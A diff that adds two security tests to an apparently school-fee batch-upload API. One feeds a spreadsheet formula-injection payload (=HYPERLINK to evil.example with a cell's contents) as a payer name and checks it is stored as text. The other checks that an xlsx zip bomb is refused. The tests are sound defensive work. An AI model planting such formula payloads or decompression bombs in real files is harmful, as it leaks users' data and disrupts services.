@@ -229,3 +229,36 @@ def test_openapi_documents_the_batch_endpoints(base_url: str) -> None:
     assert "$ref" not in json.dumps(rows)
     assert "/api/v1/payable-batches/{batch_id}/report.xlsx" in spec["paths"]
     assert "BatchOut" in spec["components"]["schemas"]
+
+
+def test_the_batch_report_shows_formula_like_names_as_text(
+    stack: Any, school_api: SignedClient
+) -> None:
+    """A payer name (from an upload) that a spreadsheet would run is written as text."""
+    pupil = tuition_rows(1)[0]
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    row = {"biz_no": pupil[0], "payer_name": evil, "payer_type": "person", "id_no": pupil[3],
+           "item_code": "JY0101"}  # fmt: skip
+    batch = school_api.post("/api/v1/payable-batches?dry_run=true", {"rows": [row]}).json()
+
+    report = school_api.get(f"/api/v1/payable-batches/{batch['id']}/report.xlsx")
+
+    sheet = load_workbook(io.BytesIO(report.content))["逐行结果"]
+    cell = sheet.cell(row=2, column=3)
+    assert (cell.value, cell.data_type, cell.quotePrefix) == (evil, "s", True)
+
+
+def test_an_xlsx_zip_bomb_is_refused_with_a_chinese_message_and_nothing_changes(
+    stack: Any, school_api: SignedClient
+) -> None:
+    from tests.unit.test_batch_files import _workbook_with_shared_strings
+
+    bomb = _workbook_with_shared_strings(90_000_000)
+    before = counts(stack)
+
+    answer = upload(school_api, bomb, XLSX)
+
+    assert answer.status_code == 422
+    assert answer.headers["content-type"] == "application/problem+json"
+    assert "疑似压缩炸弹" in answer.json()["errors"]["file"]
+    assert counts(stack) == before
